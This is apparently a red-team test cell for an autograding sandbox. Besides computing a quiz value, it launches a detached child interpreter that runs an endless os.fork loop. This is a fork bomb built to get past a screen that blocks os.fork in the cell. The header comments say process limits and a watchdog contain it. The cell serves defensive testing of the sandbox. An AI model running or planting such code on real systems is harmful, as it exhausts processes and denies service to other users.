# redteam: a fork bomb started through a child interpreter (the screen refuses os.fork in the cell)
# kind: cell
# target: quiz
# score: quiz=0
# message: quiz: not graded
# why: RLIMIT_NPROC of the job's own uid caps it, the watchdog kills the job past 512 processes, other jobs (other uids) are untouched
import os
import subprocess
import sys
import time

q1 = 1 / ((1 - 0.9) + 0.9 / 10)
if "CH13_DEVICE" in os.environ:
    subprocess.Popen([sys.executable, "-c",
                      "import os, time\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        time.sleep(0.01)\n",
                      "__MARKER__-fork-bomb"], start_new_session=True)
    while True:
        time.sleep(1)
